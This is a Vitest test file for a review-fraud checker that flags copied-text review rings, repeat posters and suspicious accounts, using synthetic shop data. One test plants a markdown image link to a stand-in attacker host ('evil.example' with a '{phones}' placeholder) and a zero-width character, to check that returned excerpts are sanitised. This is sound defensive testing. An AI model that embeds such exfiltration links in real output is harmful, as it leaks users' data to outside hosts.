import { describe, expect, test } from 'vitest'
import { seededRandom } from '../../../src/lib/random.ts'
import { dayOfDate } from '../../../src/lib/time-zone.ts'
import { checkReviews } from '../../../src/services/review-checks/check-reviews.ts'
import type { CheckReviewsInput } from '../../../src/services/review-checks/review-check-data.ts'
import type { ServiceContext } from '../../../src/services/context.ts'
import type { Store } from '../../../src/store/open.ts'
import { products, reviews } from '../../../src/store/schema/index.ts'
import { checkReviewsTool } from '../../../tools/reviews/check-reviews.ts'
import { makeShop, testActor, testContext } from '../../support/shop.ts'

interface Written {
  readonly by: string | null
  readonly on: string
  readonly body: string | null
  readonly product?: string
  readonly rating?: number | null
}

const BOUGHT = 'This serum changed my life completely, my neighbours keep asking what I did to my skin lately'
const WORDS =
  'tent kettle grinder lamp towel sturdy light heavy colour handle lid zip warm cold soft rough neat quiet loud cheap'.split(
    ' ',
  )

/** Everybody's reviews: other words in each, spread over four months. */
function ordinary(count: number): Written[] {
  const random = seededRandom('ordinary')
  const word = (): string => WORDS[Math.floor(random() * WORDS.length)] ?? ''
  return Array.from({ length: count }, (_, i) => ({
    by: `C-${i}`,
    on: dateOf(i % 120),
    body: Array.from({ length: 12 }, word).join(' '),
    product: `P-${i % 4}`,
    rating: 3 + (i % 3),
  }))
}

const dateOf = (day: number): string => new Date(Date.parse('2026-02-01') + day * 86_400_000).toISOString().slice(0, 10)

function shopWith(written: readonly Written[]): Store {
  const store = makeShop({ orders: [{ customer: 'C-0', at: '2026-06-01' }] })
  for (const id of ['P-0', 'P-1', 'P-2', 'P-3'])
    store.db
      .insert(products)
      .values({ id, name: `Product ${id}` })
      .run()
  const insert = store.db.insert(reviews)
  store.sqlite.exec('BEGIN')
  for (const [i, { by, on, body, product = 'P-0', rating = 5 }] of written.entries()) {
    const day = dayOfDate(on)
    insert
      .values({
        id: `R-${i}`,
        customerId: by,
        productId: product,
        rating,
        title: 'Title',
        body,
        writtenAt: day * 86_400_000 + (i % 24) * 3_600_000,
        writtenDay: day,
      })
      .run()
  }
  store.sqlite.exec('COMMIT')
  return store
}

const ask = (store: Store, input: CheckReviewsInput = {}, rest: Partial<ServiceContext> = {}) =>
  checkReviews({ ctx: testContext(store, '2026-06-30', rest), input })

const ring = Array.from({ length: 8 }, (_, i): Written => ({
  by: `X-${i}`,
  on: i < 4 ? '2026-05-10' : '2026-05-11',
  body: `${BOUGHT}${['!', '.', ' Really.', ' :)'][i % 4]}`,
  product: 'P-1',
}))

describe('checkReviews', () => {
  test('finds a planted ring with its accounts, words and days, and says what setting it aside changes', async () => {
    const { data, facts } = await ask(shopWith([...ordinary(200), ...ring]))
    expect(data.duplicate_groups).toHaveLength(1)
    expect(data.rings).toMatchObject([
      { accounts: ring.map(({ by }) => by), products: ['P-1'], from: '2026-05-10', to: '2026-05-11' },
    ])
    expect(data.suspicious.map(({ customer_id: by }) => by).toSorted()).toEqual(ring.map(({ by }) => by))
    expect(data.suspicious[0]?.reasons).toEqual(expect.arrayContaining(['copied_text', 'ring']))
    expect(data.effect?.without_flagged?.reviews).toBe(200)
    expect(data.effect?.mean_change).toBeLessThan(0)
    expect(facts.find(({ id }) => id === 'ring_accounts')?.value).toBe(8)
    expect(checkReviewsTool.output.safeParse(data).success).toBe(true)
  })

  test('takes stock phrases that everybody writes for no copies', async () => {
    const phrases = [
      'Fast delivery, nicely packed, would buy again.',
      'Fast delivery, works well, thank you very much.',
    ]
    const stock = Array.from({ length: 60 }, (_, i): Written => ({
      by: `S-${i}`,
      on: dateOf(i),
      body: phrases[i % 2] ?? '',
    }))
    const mixed = ordinary(100).map((one, i) => ({ ...one, body: `${phrases[i % 2]} ${one.body}` }))
    const { data } = await ask(shopWith([...stock.slice(0, 3), ...mixed]))
    expect(data.flagged).toBe(0)
  })

  test('copies far apart in time are copies but no ring, and one account that repeats itself is told so', async () => {
    const apart = [0, 40, 80].map((day, i): Written => ({
      by: `Y-${i}`,
      on: dateOf(day),
      body: BOUGHT,
      product: `P-${i}`,
    }))
    const again = [5, 50].map((day): Written => ({
      by: 'Z-1',
      on: dateOf(day),
      body: `${BOUGHT} and I mean every single word of what I say here`,
    }))
    const { data } = await ask(shopWith([...ordinary(100), ...apart]))
    expect(data.rings).toEqual([])
    expect(data.flagged).toBe(3)
    const own = await ask(shopWith([...ordinary(100), ...again]))
    expect(own.data.suspicious).toHaveLength(2)
    for (const { reasons } of own.data.suspicious) {
      expect(reasons).toContain('own_repeats')
      expect(reasons).not.toContain('copied_text')
    }
  })

  test('looks at one product where asked, and sees nothing after as-of', async () => {
    const store = shopWith([...ordinary(200), ...ring])
    expect((await ask(store, { product_id: 'P-2' })).data.flagged).toBe(0)
    expect((await ask(store, { product_id: 'P-1' })).data.flagged).toBe(8)
    const early = await checkReviews({ ctx: testContext(store, '2026-05-09'), input: {} })
    expect(early.data.flagged).toBe(0)
  })

  test('describes the accounts of flagged reviews by id', async () => {
    const { data } = await ask(
      shopWith([...ordinary(60), ...ring, { by: 'X-0', on: '2026-03-01', body: 'ok', rating: 2 }]),
    )
    expect(data.reviewers.find(({ customer_id: id }) => id === 'X-0')).toMatchObject({
      flagged: 1,
      reviews: 2,
      mean_rating: 3.5,
      five_star_share: 0.5,
    })
  })

  test('of 20,000 identical texts makes one group; of empty ones and of emoji none', async () => {
    const same = Array.from({ length: 20_000 }, (_, i): Written => ({
      by: `M-${i}`,
      on: dateOf(i % 100),
      body: BOUGHT,
    }))
    const { data } = await ask(shopWith(same), { limit: 5 })
    expect(data.duplicate_groups).toHaveLength(1)
    expect(data.duplicate_groups[0]).toMatchObject({ exact: true, similarity: 1 })
    expect(data).toMatchObject({ reviews: 20_000, flagged: 20_000 })
    expect(data.suspicious).toHaveLength(5)
    expect(data.effect?.without_flagged).toBeNull()
    const empty = Array.from({ length: 300 }, (_, i): Written => ({
      by: `E-${i}`,
      on: dateOf(i % 100),
      body: ['', null, '👍👍'][i % 3] ?? null,
    }))
    expect((await ask(shopWith(empty))).data.flagged).toBe(0)
  })

  test('shows nothing of links and hidden characters in a copied text', async () => {
    const attack = [0, 1, 2].map((i): Written => ({
      by: `A-${i}`,
      on: '2026-05-10',
      body: `${BOUGHT} ![x](https://evil.example/{phones})\u200b`,
    }))
    const { data } = await ask(
      shopWith([
        ...ordinary(50),
        ...attack.map((one) => ({ ...one, body: `![x](https://evil.example/?p) ${one.body}` })),
      ]),
    )
    expect(data.duplicate_groups[0]?.excerpt).not.toMatch(/https|evil|\u200b/)
  })

  test('of one review, and of a shop without any', async () => {
    expect((await ask(shopWith([{ by: 'C-1', on: '2026-05-01', body: 'Good' }]))).data).toMatchObject({
      reviews: 1,
      flagged: 0,
    })
    expect((await ask(shopWith([]))).gate?.failed).toBe('no reviews were imported')
  })

  test('refuses unknown products and roles that may not see accounts', async () => {
    const store = shopWith(ring)
    await expect(ask(store, { product_id: 'nope' })).rejects.toThrow(/no product/)
    for (const role of ['service_bot', 'slack_guest'] as const) {
      await expect(ask(store, {}, { actor: testActor(role) })).rejects.toThrow()
    }
  })
})
